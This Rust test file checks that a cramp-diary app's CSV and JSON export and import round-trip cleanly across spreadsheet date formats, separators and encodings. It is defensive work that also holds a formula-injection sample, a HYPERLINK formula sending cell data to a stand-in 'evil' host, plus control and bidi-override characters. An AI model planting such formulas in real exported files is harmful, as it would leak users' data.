//! The table of cramps as people's programs save it again: nothing is lost, and
//! what comes back is what was sent.

use super::diaries;
use super::sending::{CSV, add, exported, phone, send, sends_and_adds};
use charley::conversation::Chat;
use charley::diary::{Cramp, Record};
use charley::papers::export;
use proptest::prelude::*;
use std::collections::BTreeMap;

/// The table of a month, each row as cells.
fn month() -> (Chat, Vec<Vec<String>>) {
    let old = diaries::nights(30);
    let table = export::csv(&old).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&table[..]);
    let cells = |row: csv::StringRecord| row.iter().map(str::to_owned).collect();
    let rows = reader.records().map(|row| cells(row.unwrap())).collect();
    (old, rows)
}

fn saved(rows: &[Vec<String>], mark: char) -> String {
    let mut writer = csv::WriterBuilder::new()
        .delimiter(u8::try_from(mark).unwrap())
        .flexible(true)
        .from_writer(Vec::new());
    for row in rows {
        writer.write_record(row).unwrap();
    }
    String::from_utf8(writer.into_inner().unwrap()).unwrap()
}

/// What a fresh diary has after the file was added, but for what no table has.
fn cramps_of(old: &Chat, bytes: &[u8]) -> BTreeMap<u64, Cramp> {
    let mut player = phone(diaries::empty());
    let said = send(&mut player, CSV, bytes);
    assert!(!said.contains("cannot be added"), "{said}");
    assert!(said.contains("would be added to"), "{said}");
    add(&mut player, bytes);
    let mut cramps = player.chat.diary.cramps.clone();
    for cramp in cramps.values_mut() {
        cramp.from_memory = old.diary.cramps[&cramp.id].from_memory;
    }
    cramps
}

/// A row as a program changes it: the column's name, and a cell.
type Change = fn(&str, &str) -> String;

fn as_date(cell: &str, form: &str) -> String {
    let day: Result<chrono::NaiveDate, _> = cell.parse();
    day.map_or(cell.to_owned(), |day| day.format(form).to_string())
}

const CHANGES: [(&str, Change); 12] = [
    ("28.11.2026", |name, cell| {
        only(name, "night", cell, |cell| as_date(cell, "%d.%m.%Y"))
    }),
    ("28/11/2026", |name, cell| {
        only(name, "night", cell, |cell| as_date(cell, "%d/%m/%Y"))
    }),
    ("11/28/2026", |name, cell| {
        only(name, "night", cell, |cell| as_date(cell, "%-m/%-d/%Y"))
    }),
    ("11/28/26", |name, cell| {
        only(name, "night", cell, |cell| as_date(cell, "%m/%d/%y"))
    }),
    ("2026/11/28", |name, cell| {
        only(name, "night", cell, |cell| as_date(cell, "%Y/%m/%d"))
    }),
    ("with a time", |name, cell| {
        only(name, "night", cell, |cell| {
            as_date(cell, "%Y-%m-%d 00:00:00")
        })
    }),
    ("seconds alone", |name, cell| {
        only(name, "recorded_at", cell, |cell| cell.replace(".345Z", "Z"))
    }),
    ("4.0", |name, cell| {
        only(name, "severity", cell, |cell| format!("{cell}.0"))
    }),
    ("4,00", |name, cell| {
        only(name, "severity", cell, |cell| format!("{cell},00"))
    }),
    ("capitals", |name, cell| {
        only(name, "leg", cell, str::to_uppercase)
    }),
    ("a time without its offset", |name, cell| {
        only(name, "at", cell, |cell| cell[..19].replace('T', " "))
    }),
    ("half a day", |name, cell| {
        only(name, "at", cell, |cell| {
            let at = chrono::DateTime::parse_from_rfc3339(cell).unwrap();
            at.format("%d.%m.%Y %-I:%M:%S %p").to_string()
        })
    }),
];

fn only(name: &str, column: &str, cell: &str, change: impl Fn(&str) -> String) -> String {
    match name == column && !cell.is_empty() {
        true => change(cell),
        false => cell.to_owned(),
    }
}

#[test]
fn what_spreadsheets_make_of_a_cell_is_read_as_it_was() {
    let (old, rows) = month();
    for (what, change) in CHANGES {
        let changed = rows.iter().enumerate().map(|(at, row)| {
            let cells = row.iter().zip(&rows[0]);
            let cell = |(cell, name): (&String, &String)| match at {
                0 => cell.clone(),
                _ => change(name, cell),
            };
            cells.map(cell).collect()
        });
        let changed: Vec<Vec<String>> = changed.collect();
        assert_ne!(changed, rows, "{what}");
        let mut cramps = cramps_of(&old, saved(&changed, ';').as_bytes());
        for cramp in cramps.values_mut() {
            // What the file no longer has.
            cramp.recorded_at = old.diary.cramps[&cramp.id].recorded_at;
        }
        assert_eq!(cramps, old.diary.cramps, "{what}");
        let mut here = phone(old.clone());
        let said = send(&mut here, CSV, saved(&changed, ',').as_bytes());
        assert!(said.contains("Nothing in it is new."), "{what}: {said}");
    }
}

#[test]
fn what_spreadsheets_put_around_a_table_is_passed_over() {
    let (old, rows) = month();
    let semicolons = saved(&rows, ';');
    let quoted = semicolons.replacen("id;night;at", "\"ID\";\" Night\";\"at\"", 1);
    let utf_16 = |text: &str, unit: fn(u16) -> [u8; 2]| -> Vec<u8> {
        text.encode_utf16().flat_map(unit).collect()
    };
    let trailing: Vec<Vec<String>> = rows
        .iter()
        .map(|row| {
            row.iter()
                .cloned()
                .chain([String::new(), String::new()])
                .collect()
        })
        .collect();
    let left_out: Vec<Vec<String>> = rows
        .iter()
        .map(|row| {
            let end = row.iter().rposition(|cell| !cell.is_empty()).unwrap();
            row[..=end].to_vec()
        })
        .collect();
    for (what, file) in [
        ("sep=;", format!("sep=;\r\n{semicolons}").into_bytes()),
        (
            "quoted sep",
            format!("\"sep=;\"\n{semicolons}").into_bytes(),
        ),
        ("quoted header", quoted.into_bytes()),
        (
            "CR alone",
            semicolons
                .replace("\r\n", "\n")
                .replace('\n', "\r")
                .into_bytes(),
        ),
        (
            "UTF-16LE",
            utf_16(&format!("\u{feff}{}", saved(&rows, '\t')), u16::to_le_bytes),
        ),
        (
            "UTF-16BE",
            utf_16(&format!("\u{feff}{semicolons}"), u16::to_be_bytes),
        ),
        (
            "UTF-16 without a mark",
            utf_16(&semicolons, u16::to_le_bytes),
        ),
        (
            "two marks",
            format!("\u{feff}\u{feff}{semicolons}").into_bytes(),
        ),
        ("trailing columns", saved(&trailing, ',').into_bytes()),
        (
            "trailing cells left out",
            saved(&left_out, ',').into_bytes(),
        ),
        (
            "blank rows",
            format!("{semicolons};;;;\r\n ; \r\n").into_bytes(),
        ),
    ] {
        assert_eq!(cramps_of(&old, &file), old.diary.cramps, "{what}");
    }
}

const HEADER: &str = "id,night,at,recorded_at,source,severity,leg,muscle,minutes,helped,note\n";

#[test]
fn a_day_that_can_be_two_follows_from_its_time_or_its_neighbours() {
    let kept = "2026-06-06T05:00:00.000Z";
    for (rows, nights) in [
        (
            vec![format!("c1,05/06/2026,2026-06-06T03:00:00+02:00,{kept}")],
            vec!["2026-06-05"],
        ),
        (vec![format!("c1,06/05/2026,,{kept}")], vec!["2026-06-05"]),
        (
            vec![
                "c1,05/06/2026,,2026-11-06T05:00:00Z".to_owned(),
                format!("c2,25/05/2026,,{kept}"),
            ],
            vec!["2026-06-05", "2026-05-25"],
        ),
        (
            vec![format!("c1,########,2026-06-06T03:00:00+02:00,{kept}")],
            vec!["2026-06-05"],
        ),
    ] {
        let rows: Vec<String> = rows
            .iter()
            .map(|row| format!("{row},log,,,,,,\n"))
            .collect();
        let mut player = phone(diaries::empty());
        sends_and_adds(
            &mut player,
            CSV,
            format!("{HEADER}{}", rows.concat()).as_bytes(),
        );
        let cramps = player.chat.diary.cramps.values();
        let read: Vec<String> = cramps.map(|one| one.night.unwrap().to_string()).collect();
        assert_eq!(read, nights, "{rows:?}");
    }
    let unclear = format!("{HEADER}c1,05/06/2026,,2026-11-06T05:00:00Z,log,,,,,,\n");
    let said = send(&mut phone(diaries::empty()), CSV, unclear.as_bytes());
    assert!(
        said.contains("Line 2: night cannot be \"05/06/2026\"."),
        "{said}"
    );
}

#[test]
fn no_cell_is_a_formula_and_each_note_comes_back() {
    let notes = [
        "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")",
        "+1 cramp",
        "-2",
        "@home",
        "'=quoted",
        "''",
        "a;=1",
        "line\n=2",
        "plain = fine",
    ];
    let mut old = diaries::empty();
    for (id, note) in (1..).zip(notes) {
        let cramp = diaries::cramp(id, diaries::last_night());
        let note = Some(note.to_owned());
        old.diary.put(Record::Cramp(Cramp { note, ..cramp }));
    }
    let table = export::csv(&old).unwrap();
    let mut reader = csv::Reader::from_reader(&table[..]);
    for row in reader.records() {
        let row = row.unwrap();
        let parts = row
            .iter()
            .flat_map(|cell| cell.split([';', '\t', '\n', '|']));
        for part in parts {
            let bare = part.trim_start_matches([' ', '"']);
            assert!(!bare.starts_with(['=', '+', '-', '@']), "{part}");
        }
    }
    assert_eq!(cramps_of(&old, &table), old.diary.cramps);
}

#[test]
fn texts_of_a_file_are_as_clean_as_typed_ones() {
    let mut file = exported(&diaries::nights(9));
    file["cramps"][0]["note"] = "a\u{0}b\u{1b}[1m \u{202e}c\u{2066}\u{feff}".into();
    file["signs"][0]["words"] = "my\u{0} calf\u{202e}".into();
    let bytes = serde_json::to_vec(&file).unwrap();
    let mut player = phone(diaries::empty());
    sends_and_adds(&mut player, "charley-\u{202e}export.json", &bytes);
    let diary = &player.chat.diary;
    let notes: Vec<&String> = diary
        .cramps
        .values()
        .filter_map(|one| one.note.as_ref())
        .collect();
    assert!(notes.iter().any(|note| *note == "a b [1m c"), "{notes:?}");
    let words = diary.signs.values().next().unwrap().words.as_deref();
    assert_eq!(words, Some("my  calf"));
    let table = export::csv(&player.chat).unwrap();
    assert!(!table.contains(&0));
}

proptest! {
    #![proptest_config(crate::many::cases(100))]
    #[test]
    fn any_note_is_the_same_after_the_table(note in "\\PC{1,40}|[-='\"@+; \n,]{1,12}x") {
        let mut old = diaries::one_night();
        let cramp = old.diary.cramps.get_mut(&1).unwrap();
        // As it is kept when it is typed.
        let mut typed = phone(diaries::empty());
        typed.happens(crate::player::heard(&format!("/log note {note}")));
        let Some(kept) = typed.chat.diary.cramps.values().next() else {
            return Ok(());
        };
        cramp.note.clone_from(&kept.note);
        prop_assert_eq!(cramps_of(&old, &export::csv(&old).unwrap()), old.diary.cramps);
    }
}
